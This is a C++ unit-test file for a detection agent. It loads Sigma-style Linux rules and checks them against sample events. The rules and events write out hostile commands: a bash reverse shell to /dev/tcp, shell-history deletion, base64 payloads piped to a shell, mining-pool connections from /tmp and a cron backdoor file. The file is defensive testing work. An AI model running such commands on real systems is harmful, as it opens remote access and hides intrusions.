// Rules in the shape of the public SigmaHQ rules for Linux (rules/linux/...): every key they
// use (status, references, author, date, modified, tags, falsepositives, fields, related),
// their field names and modifiers. They must load as written and match a matching event but
// not a near miss.
#include <gtest/gtest.h>

#include "agent/detect/detect.h"
#include "agent/detect/test_util.h"

namespace vigil::detect {
namespace {

using testing::Connect;
using testing::Exec;
using testing::LoadText;
using testing::Matches;

const char* kReverseShell = R"(title: Reverse Shell Through Bash Redirection To /dev/tcp
id: 83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871
status: test
description: Detects an interactive shell whose input and output are redirected to a TCP socket.
references:
    - https://example.org/reverse-shells
author: Vigil tests
date: 2023-01-17
modified: 2024-03-05
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains|all:
            - ' -i '
            - '/dev/tcp/'
    condition: selection
falsepositives:
    - Unlikely
level: high
)";

const char* kHistoryCleared = R"(title: Shell History Removed Or Truncated
id: 2f31b9ce-46cb-4b0e-9e2d-7d1d8a7f3c21
status: stable
description: Detects commands that delete or empty the shell history file.
author: Vigil tests
date: 2022-08-01
tags:
    - attack.defense-evasion
    - attack.t1070.003
logsource:
    product: linux
    category: process_creation
detection:
    selection_img:
        Image|endswith:
            - '/rm'
            - '/shred'
            - '/truncate'
            - '/ln'
    selection_history:
        CommandLine|contains:
            - '.bash_history'
            - '.zsh_history'
            - '.ash_history'
    filter_backup:
        CommandLine|contains: '/var/backups/'
    condition: all of selection_* and not 1 of filter_*
fields:
    - CommandLine
    - User
falsepositives:
    - Administrators cleaning up accounts
level: high
)";

const char* kDecodeToShell = R"(title: Base64 Decoded Payload Piped To A Shell
id: e2072cab-8c9a-459b-b63c-40ae79e27031
related:
    - id: 7f1b2f4a-2f61-4b8e-9ad3-98b3c1a9a111
      type: similar
status: test
description: Detects base64 decoding piped into an interpreter.
author: Vigil tests
date: 2023-06-01
tags:
    - attack.defense-evasion
    - attack.t1140
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'base64 '
        CommandLine|re: '(-d|--decode)\s*\|\s*(ba|z|da)?sh'
    condition: selection
falsepositives:
    - Installers
level: medium
)";

const char* kSuspiciousPort = R"(title: Outbound Connection To Common Mining Pool Port From Temporary Directory
id: 5c7f0e0e-5d57-4c8a-9d3e-1c0f1b1e2a33
status: experimental
description: Detects a program started from a temporary directory connecting to a port often used by mining pools.
author: Vigil tests
date: 2024-02-10
tags:
    - attack.impact
    - attack.t1496
logsource:
    category: network_connection
    product: linux
detection:
    selection:
        Initiated: 'true'
        Image|startswith:
            - '/tmp/'
            - '/dev/shm/'
            - '/var/tmp/'
        DestinationPort:
            - 3333
            - 4444
            - 5555
            - 14444
    condition: selection
falsepositives:
    - Unknown
level: high
)";

const char* kCronFile = R"(title: File Written In A Cron Directory
id: 6c4e1c7d-1111-4a7e-9a9d-3f5b8b6c0d44
status: test
description: Detects persistence through a new cron job file.
author: Vigil tests
date: 2021-10-15
tags:
    - attack.persistence
    - attack.t1053.003
logsource:
    product: linux
    category: file_event
detection:
    selection:
        TargetFilename|startswith:
            - '/etc/cron.d/'
            - '/etc/cron.daily/'
            - '/var/spool/cron/crontabs/'
    condition: selection
level: medium
)";

const char* kWindowsRule = R"(title: Windows Rule
id: 1d2e3f40-0000-4000-8000-000000000000
status: test
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\powershell.exe'
        CommandLine|contains|windash: ' -enc '
    condition: selection
level: high
)";

std::shared_ptr<const RuleSet> LoadOne(const char* text) {
  auto r = LoadText(text, nullptr, "public.yml");
  for (const auto& e : r.errors) ADD_FAILURE() << e.ToString();
  EXPECT_EQ(r.loaded, 1u);
  return r.rules;
}

TEST(PublicSigmaRules, ReverseShell) {
  auto rules = LoadOne(kReverseShell);
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/bash", "bash -c cat /dev/tcp/192.0.2.7/80")));  // no ' -i '
}

TEST(PublicSigmaRules, HistoryCleared) {
  auto rules = LoadOne(kHistoryCleared);
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/rm", "rm -f /root/.bash_history")));
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/ln", "ln -sf /dev/null /home/pi/.ash_history")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/cat", "cat /root/.bash_history")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/rm", "rm /var/backups/.bash_history")));
}

TEST(PublicSigmaRules, DecodeToShell) {
  auto rules = LoadOne(kDecodeToShell);
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/sh", "echo ZWNobyBoaQ== | base64 -d | bash")));
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/sh", "cat payload.b64 | base64 --decode |sh")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/sh", "base64 -d payload.b64 > out.bin")));
}

TEST(PublicSigmaRules, MiningPoolPort) {
  auto rules = LoadOne(kSuspiciousPort);
  EXPECT_TRUE(Matches(rules, Connect("198.51.100.20", 3333, "/tmp/.cache/kworker")));
  EXPECT_FALSE(Matches(rules, Connect("198.51.100.20", 443, "/tmp/.cache/kworker")));
  EXPECT_FALSE(Matches(rules, Connect("198.51.100.20", 3333, "/usr/bin/python3")));
}

TEST(PublicSigmaRules, CronFile) {
  auto rules = LoadOne(kCronFile);
  Event e;
  e.device = "dev1";
  e.type = "file";
  e.action = "created";
  e.data = {{"path", "/etc/cron.d/backdoor"}, {"root", "/etc/cron.d"}};
  EXPECT_TRUE(Matches(rules, e));
  e.data["path"] = "/etc/crontab.d/x";
  EXPECT_FALSE(Matches(rules, e));
}

TEST(PublicSigmaRules, WindowsRulesAreUnsupportedNotCrashes) {
  auto r = LoadText(kWindowsRule, nullptr, "win.yml");
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].line, 5);
  EXPECT_NE(r.errors[0].message.find("unsupported logsource"), std::string::npos) << r.errors[0].ToString();
}

TEST(PublicSigmaRules, AllInOneFileWithTheWindowsOneFailing) {
  std::string all = std::string(kReverseShell) + "---\n" + kHistoryCleared + "---\n" + kWindowsRule + "---\n" +
                    kDecodeToShell + "---\n" + kSuspiciousPort + "---\n" + kCronFile;
  auto r = LoadText(all, nullptr, "all.yml");
  EXPECT_EQ(r.loaded, 5u);
  EXPECT_EQ(r.failed, 1u);
}

}  // namespace
}  // namespace vigil::detect
